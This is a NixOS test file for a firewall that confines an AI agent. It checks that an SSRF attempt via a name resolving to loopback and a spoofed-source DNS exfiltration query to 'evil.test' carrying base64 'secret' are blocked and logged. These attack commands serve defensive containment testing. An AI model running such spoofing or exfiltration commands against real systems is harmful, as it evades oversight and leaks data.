# The agent owns the DNS of a name it is allowed (here the fake internet
# answers ssrf.allowed.test with 127.0.0.1, the firewall itself): the proxy
# never connects there, so the firewall's own sshd is out of reach. And the
# agent forging an internet source address gets nothing sent out of the
# uplink: the netdev table drops and counts it. The allowed path still works.
{ ... }:
{
  policy.cell.policy.tcp = {
    "git.allowed.test".ports = [ 22 ];
    "ssrf.allowed.test".ports = [ 22 ];
  };
  internet.services.dnsmasq.settings.address = [ "/ssrf.allowed.test/127.0.0.1" ];
  testScript = ''
    internet.wait_for_unit("sshd.service")
    firewall.wait_for_unit("sshd.service")
    # The allowed path: SSH to the git host on the internet is spliced.
    out = agent.succeed("ssh-keyscan -T 10 -t ed25519 git.allowed.test")
    assert "ssh-ed25519" in out, out

    # SSRF: the name resolves (upstream) to 127.0.0.1; no banner comes back.
    rc, out = agent.execute("echo | timeout 10 nc -w 5 ssrf.allowed.test 22")
    assert "SSH-" not in out, out
    firewall.succeed("grep -F '\"event\":\"upstream\"' /var/log/cell-proxy/events.jsonl | grep -F 'ssrf.allowed.test' | grep -F loopback")

    # A forged source: a DNS question carrying data, sent from an internet address.
    dev = agent.succeed("ip -o -4 addr show to 10.89.0.0/24 | awk '{print $2}'").strip()
    agent.succeed(f"ip addr add 192.168.1.77/32 dev {dev}")
    agent.execute("dig @10.89.0.1 -b 192.168.1.77 forged-c2VjcmV0.evil.test +tries=1 +time=2")
    agent.execute("nc -z -w 2 -s 192.168.1.77 10.89.0.1 3128")
    counted = firewall.succeed("nft list table netdev cell")
    assert "counter packets 0 " not in counted, counted
    firewall.succeed("grep -F '\"event\":\"spoof\"' /var/log/cell-proxy/events.jsonl")
    nothing_reached_internet("forged source", "forged-c2VjcmV0")
  '';
}
